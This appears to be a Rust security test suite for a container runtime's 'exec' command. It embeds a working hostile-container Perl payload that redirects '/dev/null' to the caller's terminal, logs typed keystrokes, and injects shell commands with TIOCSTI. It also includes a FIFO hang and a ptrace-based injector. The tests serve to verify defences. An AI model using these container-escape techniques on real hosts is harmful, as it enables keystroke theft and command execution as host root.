//! More of the attack suite (red team after issue 17's hardening): a hostile image's PID 1 that
//! `chroot`s itself (it holds `CAP_SYS_CHROOT`, one of the default capabilities) decides what
//! `cairn-enter` sees as `/`: `cairn-enter` joins the target's root (`/proc/PID/root`) and then,
//! as host root (or the rootless user) still carrying the caller's controlling terminal, opens
//! `"/dev/null"` by path for the command's stdin (`console::prepare`, the pipes case, used by
//! `exec` and `exec -d` without `-i`).
//!
//! - PID 1 chroots into the container's `/dev` (a writable tmpfs without `noexec`), where
//!   `dev/null` is a symlink to `/tty`: the bound-in host `/dev/tty`. Opening it from
//!   `cairn-enter` gives the *caller's* terminal, which becomes the command's stdin: the
//!   command (planted in that root under the name the caller runs) reads what the caller types
//!   after `exec` returned, and with `CAP_SYS_ADMIN` types into the caller's shell (`TIOCSTI`).
//! - PID 1 chroots into a directory where `dev/null` is a FIFO: `cairn-enter`, as host root,
//!   blocks in `open(2)` forever.
//!
//! - With `--cap-add SYS_PTRACE` (root): the container's root ptraces `cairn-enter`'s forked
//!   child, which is in the container's pid namespace from the fork until its `execve` and holds
//!   every capability and the caller's stdio until it confines itself; it makes the child call
//!   `ioctl(1, TIOCSTI, ..)` on the caller's terminal (`tests/support/attack-ptrace-inject.c`).
//!
//! Run as root and as the real user `cairntest` (`Cairn::rootless()`); each test asserts the
//! host (the caller's terminal, a host file, the caller's process) is untouched.

use std::fs;
use std::io::{Read as _, Write as _};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use cairn_tests::attack;
use cairn_tests::fixtures::{self, refs};
use cairn_tests::Cairn;

/// PID 1 of the hostile image (perl, from the Debian fixture). `$ARGV[0]`: `tty` or `fifo`;
/// `$ARGV[1]`: a host path the planted command tries to make the caller's shell `touch` with
/// `TIOCSTI` (empty: only read the caller's keystrokes). Writes `/ready` in its new root when
/// set up.
const PID1_PL: &str = r#"
my ($mode, $owned) = @ARGV;
if ($mode eq "fifo") {
    system("mkdir -p /evil/dev && mkfifo /evil/dev/null") == 0 or die "fifo setup";
    chroot("/evil") or die "chroot /evil: $!";
} else {
    # The command the caller runs (`true`), planted with perl and its libraries under /dev.
    my $planted = <<'S';
#!/usr/bin/perl
open(my $o, ">>", "/stolen") or die;
select((select($o), $| = 1)[0]);
print $o (-t STDIN ? "stdin is a terminal\n" : "stdin is not a terminal\n");
exit 0 if fork();
my $owned = "OWNED";
if ($owned ne "") {
    my $ok = 1;
    for my $c (split //, "touch $owned\n") { $ok &&= ioctl(STDIN, 0x5412, $c) }
    print $o ($ok ? "TIOCSTI into the caller's terminal\n" : "TIOCSTI refused: $!\n");
    exit 0;
}
while (my $l = <STDIN>) { print $o "stolen: $l" }
S
    $planted =~ s/OWNED/$owned/;
    system(q{set -e
mkdir -p /dev/dev /dev/bin /dev/usr/bin /dev/lib/x86_64-linux-gnu /dev/lib64
cp /usr/bin/perl /dev/usr/bin/perl
for l in libc.so.6 libm.so.6 libcrypt.so.1; do cp /lib/x86_64-linux-gnu/$l /dev/lib/x86_64-linux-gnu/; done
cp /lib64/ld-linux-x86-64.so.2 /dev/lib64/
ln -s /tty /dev/dev/null
}) == 0 or die "tty setup";
    for my $p ("/dev/usr/bin/true", "/dev/bin/true") {
        open(my $f, ">", $p) or die "$p: $!"; print $f $planted; close($f); chmod(0755, $p);
    }
    chroot("/dev") or die "chroot /dev: $!";
}
chdir("/");
open(my $r, ">", "/ready"); close($r);
sleep 100000;
"#;

/// A store with the Debian fixture image (root or rootless), the PID 1 script in a directory
/// the store's user can read, and the containers removed on drop.
struct Env {
    c: Cairn,
    image: String,
    script_dir: PathBuf,
    names: Vec<String>,
}

impl Drop for Env {
    fn drop(&mut self) {
        if !self.names.is_empty() {
            let mut args = vec!["rm", "-f", "-t", "0"];
            args.extend(self.names.iter().map(String::as_str));
            let _ = self.c.run(&args);
        }
    }
}

fn env(rootless: bool, tag: &str) -> Env {
    let c = if rootless {
        Cairn::rootless().expect("rootless environment (tests/support/test-user.sh)")
    } else {
        Cairn::new().expect("cairn environment")
    };
    let image = c
        .ok(["pull", "-q", &fixtures::oci_ref(refs::DEBIAN_MIN)])
        .trim()
        .to_owned();
    let script_dir = attack::user_dir(&c, &format!("pid1-{tag}")).expect("script dir");
    let script = script_dir.join("pid1.pl");
    fs::write(&script, PID1_PL).unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o644)).unwrap();
    Env {
        c,
        image,
        script_dir,
        names: Vec::new(),
    }
}

impl Env {
    /// Starts the hostile PID 1 in `mode` as container `name`; returns its host pid once it is
    /// set up (its new root has `/ready`).
    fn start(&mut self, name: &str, mode: &str, owned: &str, extra: &[&str]) -> i32 {
        self.names.push(name.to_owned());
        let vol = format!("{}:/attack:ro", self.script_dir.display());
        let mut args = vec!["run", "-d", "--name", name, "-v", &vol];
        args.extend_from_slice(extra);
        args.extend_from_slice(&[&self.image, "perl", "/attack/pid1.pl", mode, owned]);
        self.c.ok(&args);
        let pid: i32 = self
            .c
            .ok(["inspect", "-f", "{{.State.Pid}}", name])
            .trim()
            .parse()
            .expect("a pid");
        attack::wait_for_file(
            Path::new(&format!("/proc/{pid}/root/ready")),
            Duration::from_secs(60),
        )
        .unwrap_or_else(|e| panic!("{name}: the hostile PID 1 did not set up: {e}"));
        pid
    }
}

/// Runs the shell `line` (`CAIRN` standing for the binary) under script(1), as the store's
/// user, so it and the `cairn` it starts have a real pty as controlling terminal. Once the
/// output shows `rc=`, `typed` is typed into that terminal (as the caller would type at their
/// shell after `exec` returned). Returns what the terminal showed.
fn through_pty(c: &Cairn, line: &str, typed: &str) -> String {
    let mut child = c
        .script("-qfec", line)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("script(1) runs");
    let shown = Arc::new(Mutex::new(String::new()));
    let mut stdout = child.stdout.take().unwrap();
    let reader = {
        let shown = shown.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while let Ok(n) = stdout.read(&mut buf) {
                if n == 0 {
                    break;
                }
                shown
                    .lock()
                    .unwrap()
                    .push_str(&String::from_utf8_lossy(&buf[..n]));
            }
        })
    };
    let mut stdin = child.stdin.take();
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut typed_yet = false;
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            let _ = child.kill();
            break;
        }
        if !typed_yet && shown.lock().unwrap().contains("rc=") {
            std::thread::sleep(Duration::from_millis(300));
            if let Some(s) = stdin.as_mut() {
                let _ = s.write_all(typed.as_bytes());
                let _ = s.flush();
            }
            typed_yet = true;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    drop(stdin);
    let _ = child.wait();
    let _ = reader.join();
    let out = shown.lock().unwrap().replace('\r', "");
    out
}

/// Attack: PID 1 chroots into `/dev` with `dev/null` -> `/tty`; the caller runs
/// `cairn exec CTR true` from an interactive terminal and then types a secret at their shell.
/// Defence expected: the command's stdin is never anything the caller holds (the null device
/// opened on the host before joining the container, or a pipe). Asserted: the planted `true`
/// saw no terminal on stdin and read nothing the caller typed.
fn exec_stdin_is_never_the_callers_terminal(rootless: bool) {
    let tag = attack::unique_tag("devtty");
    let mut e = env(rootless, &tag);
    let name = format!("devtty-{tag}");
    let pid = e.start(&name, "tty", "", &[]);
    let secret = format!("typed-secret-{tag}");
    let out = through_pty(
        &e.c,
        &format!("CAIRN exec {name} true; echo rc=$?; sleep 4; echo caller-done"),
        &format!("{secret}\n"),
    );
    assert!(out.contains("caller-done"), "{out}");
    let stolen = fs::read_to_string(format!("/proc/{pid}/root/stolen")).unwrap_or_default();
    let mut findings = Vec::new();
    if stolen.contains("stdin is a terminal") {
        findings.push(
            "`cairn exec` (no -i, no -t) gave the command the caller's terminal as stdin: cairn-enter opened \"/dev/null\" inside the root PID 1 chose, a symlink to /dev/tty"
                .to_owned(),
        );
    }
    if stolen.contains(&secret) {
        findings.push(format!(
            "a process left in the container read what the caller typed at their shell after `exec` returned: {:?}",
            stolen.lines().filter(|l| l.starts_with("stolen:")).collect::<Vec<_>>()
        ));
    }
    assert!(
        findings.is_empty(),
        "{} finding(s):\n  - {}\nterminal:\n{out}",
        findings.len(),
        findings.join("\n  - ")
    );
}

#[test]
fn exec_stdin_is_never_the_callers_terminal_root() {
    exec_stdin_is_never_the_callers_terminal(false);
}

#[test]
fn exec_stdin_is_never_the_callers_terminal_rootless() {
    exec_stdin_is_never_the_callers_terminal(true);
}

/// The same with `--cap-add SYS_ADMIN` (root only: TIOCSTI on a terminal that is not the
/// caller's controlling terminal needs CAP_SYS_ADMIN in the initial user namespace). The planted
/// command pushes `touch HOST_FILE` into the caller's terminal; after `exec` returns, an
/// interactive shell reads that terminal, as the caller's login shell would. Asserted: the host
/// file never appears.
#[test]
fn exec_with_cap_sys_admin_cannot_type_into_the_callers_shell_root() {
    let tag = attack::unique_tag("tiocsti");
    let mut e = env(false, &tag);
    let name = format!("tiocsti-{tag}");
    let owned = e.c.scratch().join(format!("owned-{tag}"));
    let owned_s = owned.to_string_lossy().into_owned();
    let pid = e.start(&name, "tty", &owned_s, &["--cap-add", "SYS_ADMIN"]);
    let out = through_pty(
        &e.c,
        &format!(
            "CAIRN exec {name} true; echo rc=$?; timeout --foreground -s KILL 3 sh -i; echo caller-done"
        ),
        "",
    );
    let stolen = fs::read_to_string(format!("/proc/{pid}/root/stolen")).unwrap_or_default();
    assert!(
        !owned.exists(),
        "the container typed `touch {}` into the caller's terminal through `cairn exec` (no -i, no -t) and the caller's shell ran it as host root:\n{stolen}\nterminal:\n{out}",
        owned.display()
    );
}

/// Attack: PID 1 chroots into a directory whose `dev/null` is a FIFO; `cairn exec CTR true`.
/// Defence expected: cairn never opens a container-controlled path that can block (or the
/// host's null device is used). Asserted: `exec` ends (any exit code) within 30 s.
fn exec_does_not_block_on_a_fifo(rootless: bool) {
    let tag = attack::unique_tag("fifo");
    let mut e = env(rootless, &tag);
    let name = format!("fifo-{tag}");
    e.start(&name, "fifo", "", &[]);
    let mut child =
        e.c.command(["exec", &name, "/bin/true"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("cairn runs");
    let deadline = Instant::now() + Duration::from_secs(30);
    let mut hung = false;
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > deadline {
            hung = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let mut where_ = String::new();
    if hung {
        let pid = child.id();
        let wchan = fs::read_to_string(format!("/proc/{pid}/wchan")).unwrap_or_default();
        let cmdline = fs::read_to_string(format!("/proc/{pid}/cmdline"))
            .unwrap_or_default()
            .replace('\0', " ");
        where_ = format!(" pid {pid} waits in {wchan}: {cmdline}");
        let _ = child.kill();
        let _ = child.wait();
    }
    assert!(
        !hung,
        "`cairn exec {name} /bin/true` blocked for 30 s opening the FIFO the container put at the \"/dev/null\" of its chosen root:{where_}"
    );
}

#[test]
fn exec_does_not_block_on_a_fifo_root() {
    exec_does_not_block_on_a_fifo(false);
}

#[test]
fn exec_does_not_block_on_a_fifo_rootless() {
    exec_does_not_block_on_a_fifo(true);
}

/// The injector (`tests/support/attack-ptrace-inject.c`), compiled with `cc -static` into `dir`.
fn build_injector(dir: &Path) -> PathBuf {
    let src = dir.join("inject.c");
    let bin = dir.join("inject");
    fs::write(&src, include_str!("../support/attack-ptrace-inject.c")).unwrap();
    let out = Command::new("cc")
        .args(["-static", "-O2", "-o"])
        .arg(&bin)
        .arg(&src)
        .output()
        .expect("run cc (Debian: gcc, libc6-dev)");
    assert!(
        out.status.success(),
        "cc -static attack-ptrace-inject.c: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755)).unwrap();
    bin
}

/// Attack: a container with `--cap-add SYS_PTRACE` (root mode; podman users add it for strace
/// and gdb) seizes each `cairn-enter` child that appears in its pid namespace during 30
/// `cairn exec CTR /bin/true` run from the caller's terminal, and makes the child (still host
/// root with every capability, its fds 1 and 2 still the caller's terminal) push
/// `touch HOST_FILE` into that terminal with TIOCSTI; after the loop an interactive shell reads
/// the terminal, as the caller's would. Defence expected: nothing of the host (the caller's
/// descriptors, capabilities beyond the container's) is ever in a process the container can
/// see. Asserted: the host file never appears.
#[test]
fn exec_child_cannot_be_ptraced_into_the_callers_terminal_root() {
    let tag = attack::unique_tag("ptrace");
    let mut e = env(false, &tag);
    let name = format!("ptrace-{tag}");
    let tools = attack::user_dir(&e.c, &format!("inject-{tag}")).expect("dir");
    build_injector(&tools);
    let owned = e.c.scratch().join(format!("owned-{tag}"));
    let vol = format!("{}:/inject", tools.display());
    let payload = format!("touch {}\n", owned.display());
    e.names.push(name.clone());
    e.c.ok([
        "run",
        "-d",
        "--name",
        &name,
        "--cap-add",
        "SYS_PTRACE",
        "-v",
        &vol,
        &e.image,
        "/inject/inject",
        "/inject/log",
        &payload,
        "120",
    ]);
    let out = through_pty(
        &e.c,
        &format!(
            "for i in $(seq 1 30); do CAIRN exec {name} /bin/true 2>/dev/null; done; echo rc=$?; \
             timeout --foreground -s KILL 3 sh -i; echo caller-done"
        ),
        "",
    );
    let log = fs::read_to_string(tools.join("log")).unwrap_or_default();
    assert!(
        !owned.exists(),
        "the container ptraced cairn-enter's child and made it type `touch {}` into the caller's terminal; the caller's shell ran it as host root:\n{log}\nterminal:\n{out}",
        owned.display()
    );
}
